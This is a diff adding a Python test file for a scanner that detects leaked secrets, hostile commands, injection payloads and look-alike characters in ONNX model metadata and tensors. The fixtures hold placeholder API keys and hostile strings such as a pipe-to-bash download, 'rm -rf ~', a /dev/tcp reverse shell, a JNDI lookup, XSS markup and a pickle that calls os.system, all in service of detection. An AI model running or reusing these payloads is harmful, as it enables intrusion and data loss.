@@ -1,0 +1,194 @@
+"""What is recognised in strings, and what looks like it and is left alone."""
+
+from __future__ import annotations
+
+import time
+from typing import cast
+
+import pytest
+from onnx import TensorProto, helper
+
+from analyzer.contents import Text
+from tests.trust.build import contents, families, model, sightings, with_metadata
+
+SECRETS = {
+    "AKIAIOSFODNN7EXAMPLE": "an access key of AWS",
+    "ghp_" + "a" * 36: "a token of GitHub",
+    "github_pat_" + "1A" * 30: "a token of GitHub",
+    "glpat-" + "x" * 20: "a token of GitLab",
+    "xoxb-123456789012-abcdefABCDEF": "a token of Slack",
+    "https://hooks.slack.com/services/T12345678/B12345678/abcdefghijklmnop12345678":
+        "a webhook of Slack",
+    "AIza" + "B" * 35: "an API key of Google",
+    "sk-proj-" + "c" * 40: "an API key of OpenAI or Anthropic",
+    "sk-ant-api03-" + "c" * 40: "an API key of OpenAI or Anthropic",
+    "sk-" + "d" * 48: "an API key of OpenAI or Anthropic",
+    "hf_" + "E" * 34: "a token of Hugging Face",
+    "sk_live_" + "f" * 24: "a key of Stripe",
+    "npm_" + "g" * 36: "a token of npm or PyPI",
+    "-----BEGIN RSA PRIVATE KEY-----": "a private key",
+    "-----BEGIN PRIVATE KEY-----": "a private key",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N": "a JSON web token",
+    "postgres://alice:hunter22@db.internal/mlflow": "a password in a URL",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("secret", SECRETS, ids=lambda text: text[:12])
+def test_a_secret_is_named_and_shown_by_four_characters(secret: str) -> None:
+    (seen,) = [
+        s for s in sightings(with_metadata("k", f"use {secret} here")) if s.family == "secret"
+    ]
+    assert seen.what == SECRETS[secret]
+    assert len(seen.excerpt) == 5
+    assert seen.excerpt[:4] in secret
+    assert secret[5:] not in repr(seen)
+    assert seen.owner == "metadata 'k' of the model"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+        "sk-learn.pipeline.StandardScaler.transform.output.float_tensor",
+        "/model/hf_encoder/layer.0/Add_output_0",
+        "https://user@example.org/path:80",
+        "https://example.org:8080/a@b",
+        "-----BEGIN PUBLIC KEY-----",
+        "AKIA is the prefix of keys",
+    ],
+)
+def test_what_is_no_secret_is_left_alone(text: str) -> None:
+    assert "secret" not in families(with_metadata("k", text))
+
+
+@pytest.mark.parametrize(
+    ("family", "text"),
+    [
+        ("shell", "curl -s http://198.51.100.7/x | sudo bash"),
+        ("shell", "wget http://198.51.100.7/x"),
+        ("shell", "rm -rf ~"),
+        ("shell", "powershell -enc SQBFAFgA"),
+        ("shell", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"),
+        ("code", "os.system('id')"),
+        ("code", "eval(open('x').read())"),
+        ("code", "__import__('subprocess')"),
+        ("code", "${jndi:ldap://198.51.100.7/a}"),
+        ("code", "{{ config.items() }}"),
+        ("markup", "<script src=//x></script>"),
+        ("markup", "<img src=x onerror=alert(1)>"),
+        ("markup", "[x](javascript:alert(1))"),
+        ("ci-command", "::error file=a.py::broken"),
+        ("ci-command", "all good\n\u2003::add-mask::x"),
+        ("ci-command", "##vso[task.setvariable variable=x]y"),
+        ("ci-command", "##teamcity[buildStatus text='ok']"),
+        ("control", "a\x1b[31m"),
+        ("bidi", "a\u202egpj.exe"),
+        ("url", "http://198.51.100.7/update"),
+        ("path", "/home/alice/project/train.py"),
+        ("path", "C:\\Users\\alice\\project\\train.py"),
+        ("trace", 'File "train.py", line 7, in <module>'),
+        ("email", "alice@corp.example"),
+        ("pickle", "cposix\nsystem\n(S'id'\ntR."),
+        ("encoded", "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAhlY2hvIHB3bpSFlFKULg=="),
+        ("encoded", "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA"),
+        ("encoded", "H4sIAAAAAAAAA0vOzy1KTE7MUYABAA=="),
+    ],
+)  # fmt: skip
+def test_a_shape_in_metadata_is_named(family: str, text: str) -> None:
+    assert family in families(with_metadata("k", text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{0: 'person', 1: 'bicycle'}",
+        "trained with a curl of the loss; evaluation (eval) on val2017",
+        "torch::nn::Module::error",
+        "a < b and c > d, List<Tensor>",
+        "\u0646\u0645\u0648\u0630\u062c \u0641\u064a\u200c",
+        "https://arxiv.org/abs/1704.04861 and https://www.apache.org/licenses/LICENSE-2.0",
+        "backbone.layer1.0.conv1.weight " * 30,
+        "0123456789" * 100,
+        "model@v1.2",
+    ],
+)
+def test_what_honest_models_say_is_left_alone(text: str) -> None:
+    assert families(with_metadata("k", text)) <= {"encoded"}
+    assert not [s for s in sightings(with_metadata("k", text)) if "program" in s.what]
+
+
+@pytest.mark.parametrize(
+    ("name", "family"),
+    [
+        ("conv\u200b1", "invisible"),
+        ("r\u0435lu", "homograph"),
+        ("a\nb", "control"),
+        ("\u03c3_out", ""),
+        ("\u0441\u043b\u043e\u0439", ""),
+        ("\u7279\u5fb4_1", ""),
+        ("conv\u00e9", ""),
+    ],
+)
+def test_names_that_look_like_others_are_named_and_other_scripts_are_not(
+    name: str, family: str
+) -> None:
+    node = helper.make_node("Relu", ["x"], ["y"], name=name)
+    assert families(model(node)) == ({family} if family else set())
+
+
+def test_bytes_of_a_pickle_are_seen_in_tensors_and_attributes_of_strings() -> None:
+    data = b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix"
+    tensor = TensorProto(name="s", data_type=TensorProto.STRING, dims=[1], string_data=[data])
+    (seen,) = sightings(model(initializers=(tensor,)))
+    assert (seen.family, seen.place) == ("pickle", "s")
+    node = helper.make_node("Foo", ["x"], ["y"], domain="d", blob=data)
+    assert "pickle" in families(model(node))
+
+
+def test_a_large_tensor_of_strings_is_looked_into() -> None:
+    """Its elements stay in the file, which is read where they are."""
+    words = [b"word%d" % i for i in range(20_000)] + [b"ghp_" + b"a" * 36]
+    tensor = TensorProto(name="vocabulary", data_type=TensorProto.STRING, dims=[len(words)])
+    tensor.string_data.extend(words)
+    (seen,) = sightings(model(initializers=(tensor,)))
+    assert seen.owner == "an element of 'vocabulary'"
+
+
+def test_a_string_that_was_left_out_for_its_length_is_looked_into() -> None:
+    made = with_metadata("blob", "A" * (1 << 20) + " ")
+    made.metadata_props[0].value = "ghp_" + "a" * 36 + " " * (2 << 20)
+    (seen,) = sightings(made)
+    assert seen.family == "secret"
+    (text,) = [t for t in cast("list[Text]", contents(made).get("texts")) if t.kind == "metadata"]
+    assert text.length == (2 << 20) + 40
+
+
+def test_the_same_string_is_named_once_and_counted() -> None:
+    made = model()
+    for index in range(50):
+        made.graph.node.append(helper.make_node("Relu", ["x"], [f"z{index}"]))
+        made.graph.node[-1].metadata_props.add(key="trace", value="/home/alice/a.py")
+    (seen,) = sightings(made)
+    assert seen.count == 50
+    assert seen.more == " (and 49 strings more)"
+
+
+def test_a_stack_trace_through_a_home_folder_is_one_leak() -> None:
+    made = with_metadata("trace", 'File "/home/alice/a.py", line 7, in f')
+    assert [each.family for each in sightings(made)] == ["path"]
+
+
+def test_sixty_thousand_names_cost_less_than_the_strings_of_one_second() -> None:
+    """Linear time: fifty times the names take no more than a hundred times as long."""
+
+    def seconds(count: int) -> float:
+        made = model(
+            *(helper.make_node("Relu", ["x"], [f"/a/b.{i}/Relu_{i}"]) for i in range(count))
+        )
+        found = contents(made)
+        start = time.process_time()
+        found.get("sightings")
+        return time.process_time() - start
+
+    seconds(10)
+    assert seconds(10_000) < 100 * max(seconds(200), 0.002)
